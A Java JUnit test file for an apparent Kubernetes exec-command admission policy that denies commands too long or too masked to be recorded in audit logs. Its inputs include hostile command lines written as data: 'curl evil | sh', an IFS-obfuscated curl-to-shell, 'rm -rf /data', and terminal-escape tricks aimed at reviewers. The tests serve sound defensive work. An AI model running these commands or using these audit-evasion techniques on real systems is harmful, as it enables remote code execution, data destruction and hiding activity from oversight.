package io.execguard.aws;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.execguard.json.Cursor;
import io.execguard.json.Digest;
import io.execguard.json.Json;
import io.execguard.policy.AllowedCommands;
import io.execguard.policy.Constraint;
import io.execguard.policy.EnforcementAction;
import io.execguard.policy.Policy;
import io.execguard.testing.Function;
import io.execguard.testing.Function.Response;
import io.execguard.testing.Policies;
import io.execguard.testing.Reviews;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.ObjectMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/// What is not on record is no single command.
class UnrecordedCommandTest {
  private static final ObjectMapper MAPPER = new ObjectMapper();
  private static final List<String> MASK = List.of("-p\\S+", "(?i)(password|token)=\\S+");

  /// A script behind 25 KB of comment, with 300 KB of arguments behind it: the record kept the
  /// comment, EKS drops an audit event of that size, and the text that ran was in no log.
  private static final List<String> LONG = longCommand();

  @Test
  void deniesACommandThatNoLogHolds() {
    Function function = function(Policies.PRODUCTION, List.of());
    Response response = post(function, LONG);

    assertEquals(
        "The command \"sh\" (which counts as a session, because it is too long to be recorded"
            + " whole: 325,029 characters, and a record holds 24 KiB) in namespace payments is not"
            + " allowed [deny-interactive-exec: environment=production].\nMake it shorter: split it"
            + " into several commands, or run a script that the image or a mounted ConfigMap holds."
            + "\nRunbook: https://wiki.example.com/prod-access\nCluster prod-eu. Record"
            + " 496439da-9dca-4b48-bd4d-fa8331729269",
        response.message());
    Cursor line = function.line();
    assertEquals("not-recordable", line.text("reason"));
    assertTrue(line.flag("interactive"));
    assertTrue(line.required("access").optional("recordable").isPresent());
    assertFalse(line.required("access").flag("recordable"));
    assertFalse(line.required("access").flag("stdin"));
    assertFalse(line.required("access").flag("tty"));
  }

  @Test
  void letsItRunWhereSessionsMayAndSaysThatItIsNotOnRecord() {
    Function function = function(Policies.STAGING, List.of());

    assertTrue(post(function, LONG).allowed());
    Cursor line = function.line();
    assertEquals("no-constraint", line.text("reason"));
    assertTrue(line.flag("interactive"));
    assertTrue(line.required("access").optional("recordable").isPresent());
  }

  @Test
  void keepsWhatStandsAtTheEndOfIt() {
    Function function = function(Policies.STAGING, List.of());
    List<String> command = new ArrayList<>(Collections.nCopies(40_000, "x"));
    command.add("echo EVIL-RAN");
    post(function, command);

    Cursor line = function.line();
    List<String> kept = line.required("access").texts("command");
    assertEquals("echo EVIL-RAN", kept.getLast());
    Cursor cut = line.items("cut").getFirst();
    assertEquals(40_001, number(cut, "items"));
    assertEquals(40_001 - kept.size(), number(cut, "itemsLeftOut"));
    assertEquals("x…", kept.get((int) number(cut, "at") - 1) + "…");
    assertEquals(Digest.hex(MAPPER.writeValueAsString(command)), cut.text("sha256"));
  }

  @Test
  void deniesItWithoutLabelsAtTheDoorForCommands() {
    Function function = new Function(Policies.starter(), Function.unavailable());
    Response response = post(function, LONG);

    assertFalse(response.allowed());
    assertEquals("labels-unavailable", function.line().text("reason"));
    assertTrue(post(function, List.of("ls")).allowed());
  }

  /// The longest that a record holds is a single command, and one character more is none.
  @Test
  void drawsTheLineWhereTheRecordDoes() {
    Function function = function(Policies.PRODUCTION, List.of());
    String longest = "a".repeat((24 << 10) - 3);

    assertTrue(post(function, List.of(longest)).allowed());
    assertFalse(post(function, List.of(longest + "a")).allowed());
    assertTrue(post(function, List.of("a".repeat((24 << 10) - 8), "")).allowed());
    assertFalse(post(function, List.of("a".repeat((24 << 10) - 5), "")).allowed());
  }

  @Test
  void countsCharactersAsTheRecordWritesThem() {
    Function function = function(Policies.PRODUCTION, List.of());

    assertTrue(post(function, List.of("\u202e".repeat(4 << 10).substring(1))).allowed());
    assertFalse(post(function, List.of("\u202e".repeat(4 << 10))).allowed());
  }

  @Test
  void deniesADebugContainerWhoseCommandNoRecordHolds() {
    Function function = function(Policies.PRODUCTION, List.of());
    Response response = function.post("commands", debug(LONG));

    assertTrue(
        response.message().startsWith("A debug container (which counts as a session, because"),
        response.message());
    Cursor line = function.line();
    assertEquals("not-recordable", line.text("reason"));
    List<String> kept =
        line.required("access").members("commands").values().stream()
            .flatMap(texts -> texts.items().stream().map(Cursor::text))
            .toList();
    assertEquals("sh", kept.getFirst());
    assertTrue(kept.getLast().endsWith("PPP"), kept.getLast());
  }

  @Test
  void takesNoCommandOfAStrictListOfAnyLength() {
    Constraint production = Policies.production("strict", EnforcementAction.DENY);
    Constraint strict =
        new Constraint(
            "strict",
            EnforcementAction.DENY,
            production.match(),
            "",
            production.exempt(),
            Optional.of(new AllowedCommands(List.of("ls"))));
    Function function =
        new Function(new Policy(List.of(strict)), Function.labelled(Policies.PRODUCTION));

    assertTrue(post(function, List.of("ls", "a")).allowed());
    Response response = post(function, List.of("ls", "a".repeat(30_000)));
    assertTrue(response.message().contains("Commands allowed here: ls."), response.message());
  }

  /// 257 matches of a mask hid the rest of a command, and what it ran was on no record.
  @Test
  void deniesACommandThatTheMaskHidesByItsOwnBounds() {
    Function function = function(Policies.PRODUCTION, MASK);
    Response response =
        post(function, List.of("sh", "-c", ": " + "-pa ".repeat(257) + "; curl evil | sh"));

    assertTrue(
        response
            .message()
            .startsWith(
                "The command \"sh\" (which counts as a session, because it cannot be recorded"
                    + " whole: the policy's masks end before it does, and hide the rest) in"
                    + " namespace payments is not allowed"),
        response.message());
    assertEquals("not-recordable", function.line().text("reason"));
  }

  /// A pattern that matches more than its author thought hides a script: the record has to say how
  /// much of a command its reader does not see.
  @Test
  void recordsHowMuchAPatternHides() {
    for (Map.Entry<String, Integer> script :
        Map.of(
                "token=;curl${IFS}https://example.com/x|sh", 41,
                "-p;rm${IFS}-rf${IFS}/data", 25)
            .entrySet()) {
      Function function = function(Policies.PRODUCTION, MASK);

      assertTrue(post(function, List.of("sh", "-c", script.getKey())).allowed());
      Cursor access = function.line().required("access");
      assertEquals(List.of("sh", "-c", "***"), access.texts("command"));
      assertEquals(1, number(access, "masked"));
      assertEquals(script.getValue().intValue(), number(access, "maskedCharacters"));
      assertTrue(access.optional("recordable").isEmpty());
    }
  }

  @Test
  void hidesNothingOfWhatNoPatternMatches() {
    Function function = function(Policies.PRODUCTION, MASK);

    assertTrue(post(function, List.of("-p\nrm -rf /data")).allowed());
    Cursor access = function.line().required("access");
    assertEquals(List.of("-p\nrm -rf /data"), access.texts("command"));
    assertTrue(access.optional("maskedCharacters").isEmpty());
  }

  @Test
  void escapesInTheRecordWhatAReviewersTerminalWouldObey() {
    Function function = function(Policies.PRODUCTION, List.of());
    post(function, List.of("echo", "\u202egnp.exe\u009b2J"));

    assertTrue(function.lines().getFirst().contains("\\u202egnp.exe\\u009b2J"));
    assertEquals(
        List.of("echo", "\u202egnp.exe\u009b2J"),
        function.line().required("access").texts("command"));
  }

  private static long number(Cursor cursor, String name) {
    return cursor.required(name).json() instanceof Json.Digits(var digits, _)
        ? Long.parseLong(digits)
        : -1;
  }

  private static List<String> longCommand() {
    List<String> command = new ArrayList<>();
    command.addAll(List.of("sh", "-c", ": " + "A".repeat(25_000) + "\necho EVIL-RAN; id -un", "x"));
    command.addAll(Collections.nCopies(3, "P".repeat(100_000)));
    return command;
  }

  private static Function function(Map<String, String> labels, List<String> mask) {
    return new Function(
        new Policy(Policies.starter().constraints(), mask), Function.labelled(labels));
  }

  private static Response post(Function function, List<String> command) {
    ObjectNode review = (ObjectNode) MAPPER.readTree(Reviews.bytes("exec-command"));
    ArrayNode arguments = MAPPER.createArrayNode();
    command.forEach(arguments::add);
    ((ObjectNode) review.at("/request/object")).set("command", arguments);
    return function.post("commands", MAPPER.writeValueAsBytes(review));
  }

  private static byte[] debug(List<String> command) {
    ObjectNode review = (ObjectNode) MAPPER.readTree(Reviews.bytes("debug-ephemeral-interactive"));
    review
        .at("/request/object/spec/ephemeralContainers")
        .forEach(
            container -> {
              ObjectNode one = (ObjectNode) container;
              one.remove(List.of("stdin", "tty"));
              ArrayNode arguments = one.putArray("command");
              command.forEach(arguments::add);
            });
    return MAPPER.writeValueAsBytes(review);
  }
}
